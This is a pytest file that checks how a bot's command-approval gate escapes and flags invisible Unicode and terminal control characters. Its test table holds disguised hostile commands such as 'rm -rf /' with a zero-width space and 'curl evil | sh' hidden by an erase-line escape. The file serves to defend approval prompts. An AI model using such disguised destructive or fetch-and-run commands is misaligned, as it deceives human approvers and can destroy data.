"""bot/approvals/text.py: how a command waiting for approval is shown, against a table of hostile inputs; the same
table through each surface that shows it (cards, the outcome, `bot approvals list`, the terminal prompt)."""

from __future__ import annotations

import asyncio
import io
import re
import subprocess
import sys
import unicodedata
from pathlib import Path

import pytest

from bot.approvals.gate import _outcome_text, _request_text
from bot.approvals.text import Shown, shown_command
from bot.cli.chat import ask_on_terminal
from bot.store import ApprovalRecord, SqliteStore

# (what it is, the command, how it must be shown, the escapes the warning names)
HOSTILE: list[tuple[str, str, str, tuple[str, ...]]] = [
    ("right-to-left override", "rm -rf /tmp/\u202egpj.txt", "rm -rf /tmp/\\u202egpj.txt", ("\\u202e",)),
    ("isolates LRI..PDI", "echo \u2066a\u2067b\u2068c\u2069", "echo \\u2066a\\u2067b\\u2068c\\u2069",
     ("\\u2066", "\\u2067", "\\u2068", "\\u2069")),
    ("zero-width space", "rm -rf /\u200b", "rm -rf /\\u200b", ("\\u200b",)),
    ("zero-width joiner", "cat a\u200db", "cat a\\u200db", ("\\u200d",)),
    ("byte order mark", "\ufeffcurl x | sh", "\\ufeffcurl x | sh", ("\\ufeff",)),
    ("soft hyphen", "rm -rf ho\u00adme", "rm -rf ho\\xadme", ("\\xad",)),
    ("erase line and return", "curl evil | sh\x1b[2K\recho hi", "curl evil | sh\\x1b[2K\\x0decho hi",
     ("\\x1b", "\\x0d")),
    ("terminal title (OSC ... BEL)", "ls \x1b]0;title\x07", "ls \\x1b]0;title\\x07", ("\\x1b", "\\x07")),
    ("carriage return", "rm -rf ~\recho safe", "rm -rf ~\\x0decho safe", ("\\x0d",)),
    ("bell", "ls\x07", "ls\\x07", ("\\x07",)),
    ("other C0 controls, newline, tab", "a\x01b\x08c\nd\te\x1f", "a\\x01b\\x08c\\x0ad\\x09e\\x1f",
     ("\\x01", "\\x08", "\\x0a", "\\x09", "\\x1f")),
    ("delete", "ls\x7f\x7f", "ls\\x7f\\x7f", ("\\x7f",)),
    ("C1 control sequence introducer", "ls \x9b2J", "ls \\x9b2J", ("\\x9b",)),
    ("line and paragraph separators", "a\u2028b\u2029c", "a\\u2028b\\u2029c", ("\\u2028", "\\u2029")),
    ("a tag character", "ls \U000e0041", "ls \\U000e0041", ("\\U000e0041",)),
    ("no-break and ideographic spaces", "rm\u00a0-rf\u3000x", "rm\\xa0-rf\\u3000x", ("\\xa0", "\\u3000")),
    ("variation selector", "ls a\ufe0f", "ls a\\ufe0f", ("\\ufe0f",)),
    ("a backslash beside a hidden one", "printf '\\x41'\u202e", "printf '\\\\x41'\\u202e", ("\\u202e",)),
]  # fmt: skip
PLAIN = ["ls -la", "printf 'a\\nb\\x41' | grep -E 'a\\|b'", "echo héllo wörld 日本 🙂", "git log --format='%H %s'"]
# What must never reach a person's screen from a command (a newline only ever separates the surface's own lines).
HIDDEN_CHARS = re.compile(
    r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u00ad\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff\U000e0000-\U000e0fff]"
)


def read_back(shown: Shown) -> str:
    """The command a shown text stands for: proof that the escaping reads back one way only."""
    if not shown.hidden:
        return shown.text
    return re.sub(
        r"\\(\\|x[0-9a-f]{2}|u[0-9a-f]{4}|U[0-9a-f]{8})",
        lambda match: "\\" if match.group(1) == "\\" else chr(int(match.group(1)[1:], 16)),
        shown.text,
    )


def visible_only(text: str) -> bool:
    """Nothing in `text` that a person would not see, or that a terminal would act on."""
    return not any(unicodedata.category(char)[0] in "CZ" and char not in " \n" for char in text)


@pytest.mark.parametrize(("what", "command", "expected", "escapes"), HOSTILE, ids=[row[0] for row in HOSTILE])
def test_hidden_characters_are_shown_escaped_and_named(
    what: str, command: str, expected: str, escapes: tuple[str, ...]
) -> None:
    shown = shown_command(command)
    assert shown.text == expected
    assert shown.escapes == escapes and shown.hidden
    assert visible_only(shown.text) and "\x1b" not in shown.text
    assert read_back(shown) == command
    warning = shown.warning()
    assert warning is not None and warning.startswith("⚠ This command holds invisible or control characters")
    assert all(f"`{escape}`" in warning for escape in escapes[:6])


@pytest.mark.parametrize("command", PLAIN)
def test_a_command_of_visible_characters_is_shown_exactly_as_it_is(command: str) -> None:
    shown = shown_command(command)
    assert shown == Shown(command) and not shown.hidden
    assert shown.warning() is None and shown.plain_warning() is None


def test_the_warning_names_a_few_escapes_and_counts_the_rest() -> None:
    shown = shown_command("".join(chr(code) for code in range(1, 11)))
    warning = shown.warning()
    assert warning is not None and "`\\x06`" in warning and "`\\x07`" not in warning and "and 4 more" in warning
    assert shown.plain_warning() == warning.replace("`", "")


def record(command: str, **fields: object) -> ApprovalRecord:
    values: dict[str, object] = {
        "id": "0123456789ab", "agent": "main", "session_key": "agent:main:x", "command": command, "cwd": "/ws/main",
        "approvers": ["telegram:42"], "created": 1000.0, "expires": 2800.0, "status": "pending",
    }  # fmt: skip
    return ApprovalRecord.model_validate(values | fields)


@pytest.mark.parametrize(("what", "command", "expected", "escapes"), HOSTILE, ids=[row[0] for row in HOSTILE])
def test_the_card_and_its_outcome_show_the_escaped_command_and_the_warning(
    what: str, command: str, expected: str, escapes: tuple[str, ...]
) -> None:
    decided = record(command, status="denied", decision="deny", decided_by="Eve\u202e")
    for card in (_request_text(record(command)), _outcome_text(decided)):
        assert f"```\n{expected}\n```" in card
        assert "⚠ This command holds invisible or control characters" in card
        assert not HIDDEN_CHARS.search(card)
    assert "Denied by Eve\\u202e" in _outcome_text(decided)


def test_a_card_for_a_plain_command_has_no_warning() -> None:
    card = _request_text(record("rm -rf build"))
    assert "```\nrm -rf build\n```" in card and "⚠" not in card


@pytest.mark.parametrize(("what", "command", "expected", "escapes"), HOSTILE, ids=[row[0] for row in HOSTILE])
def test_the_terminal_prompt_shows_the_escaped_command_and_the_warning(
    what: str, command: str, expected: str, escapes: tuple[str, ...], monkeypatch: pytest.MonkeyPatch
) -> None:
    prompt, answer = io.StringIO(), io.StringIO()
    monkeypatch.setattr(sys, "stderr", prompt)
    monkeypatch.setattr(sys, "stdout", answer)
    monkeypatch.setattr(sys, "stdin", io.StringIO("o\n"))
    assert asyncio.run(ask_on_terminal(record(command))) == "allow-once"
    lines = prompt.getvalue().splitlines()
    assert lines[1:] == [
        "Approval required (main, in /ws/main):",
        f"  {expected}",
        f"  {shown_command(command).plain_warning()}",
    ]
    assert not HIDDEN_CHARS.search(prompt.getvalue())


def test_the_terminal_prompt_for_a_plain_command_has_no_warning(monkeypatch: pytest.MonkeyPatch) -> None:
    prompt = io.StringIO()
    monkeypatch.setattr(sys, "stderr", prompt)
    monkeypatch.setattr(sys, "stdout", io.StringIO())
    monkeypatch.setattr(sys, "stdin", io.StringIO("d\n"))
    assert asyncio.run(ask_on_terminal(record("rm -rf build"))) == "deny"
    assert prompt.getvalue() == "\nApproval required (main, in /ws/main):\n  rm -rf build\n"


def test_approvals_list_shows_every_whole_command_escaped_with_the_warning(tmp_path: Path) -> None:
    commands = [command for _, command, _, _ in HOSTILE] + ["rm -rf build " + "x" * 5000]

    async def store_them() -> None:
        async with await SqliteStore.open(tmp_path / "state") as store:
            for number, command in enumerate(commands):
                await store.create_approval(record(command, id=f"{number:012x}", expires=4.0e9))

    asyncio.run(store_them())
    (tmp_path / "bindings.yaml").write_text("agents:\n  - id: main\n")
    listed = subprocess.run(
        [sys.executable, "-m", "bot", "approvals", "list", "--config", str(tmp_path / "bindings.yaml"),
         "--state-dir", str(tmp_path / "state")],
        capture_output=True, text=True, timeout=60, encoding="utf-8",
    )  # fmt: skip
    assert listed.returncode == 0, listed.stderr
    out = listed.stdout
    assert not HIDDEN_CHARS.search(out)
    lines = out.splitlines()
    for number, (_, command, expected, _) in enumerate(HOSTILE):
        [row] = [index for index, line in enumerate(lines) if line.startswith(f"{number:012x}  pending")]
        assert lines[row].endswith(f"  {expected}")
        assert lines[row + 1] == f"    {shown_command(command).plain_warning()}"
    long = f"{len(HOSTILE):012x}  pending"
    assert next(line for line in lines if line.startswith(long)).endswith("rm -rf build " + "x" * 5000)  # whole
